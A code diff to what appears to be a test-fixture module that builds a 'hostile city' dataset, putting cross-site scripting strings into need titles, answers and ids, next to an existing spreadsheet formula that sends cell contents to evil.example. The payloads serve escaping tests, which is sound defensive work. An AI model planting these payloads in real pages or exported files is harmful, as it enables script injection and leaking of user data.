@@ -37,8 +37,11 @@ FORMULA = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"
 
 HOSTILE_WORK_ID = "w'\"><img src=x onerror=alert(5)>${1}"
 HOSTILE_DISTRICT_ID = "d\"><svg onload=alert(6)>"
+HOSTILE_NEED_ID = "n'\"><svg onload=alert(8)>${1}"
 # The work a browser test clicks to open its popup.
 POPUP_WORK_ID = "p1"
+# The needs with a point (their popups); n12 gets the hostile id.
+POPUP_NEED_ID = "n1"
 
 
 def hostile(marker):
@@ -79,6 +82,22 @@ def meetings():
             for i, row in enumerate(tiny.MEETINGS)]
 
 
+def needs():
+    """geo's tiny needs with a payload in every title and answer (a declined need must
+    answer), n12 (waiting, with a point) under a hostile id in the hostile district."""
+    rename = {tiny.DISTRICTS[2]["id"]: HOSTILE_DISTRICT_ID}
+    rows = []
+    for row in tiny.NEEDS:
+        texts = {f"title_{lang}": hostile(f"need-{row['id']}-{lang}") for lang in ("ru", "kk", "en")}
+        texts.update({f"answer_{lang}": hostile(f"answer-{row['id']}-{lang}") for lang in ("ru", "kk")})
+        # The hostile work id has spaces, which work_ids cannot carry: n13 answers no work here.
+        work_ids = "" if row["id"] == "n13" else row["work_ids"]
+        rows.append({**row, **texts, "work_ids": work_ids,
+                     "district_id": rename.get(row["district_id"], row["district_id"])})
+    rows[11] = {**rows[11], "id": HOSTILE_NEED_ID}
+    return rows
+
+
 def write_hostile_city(folder):
     """Write the hostile city (GeoJSON through pyogrio, CSV) into ``folder``."""
     folder.mkdir(parents=True, exist_ok=True)
@@ -88,6 +107,7 @@ def write_hostile_city(folder):
     gpd.GeoDataFrame(works(), crs=tiny.CRS).to_file(works_file, engine="pyogrio")
     pd.DataFrame(funding()).to_csv(folder / "funding.csv", index=False)
     pd.DataFrame(meetings()).to_csv(folder / "meetings.csv", index=False)
+    pd.DataFrame(needs()).to_csv(folder / "needs.csv", index=False)
     (folder / "city.json").write_text(json.dumps({
         "center": [82.61, 49.945], "metric_crs": tiny.METRIC, "extent": [82.0, 49.5, 83.5, 50.5],
         "name": {lang: hostile(f"city-{lang}") for lang in ("ru", "kk", "en")},
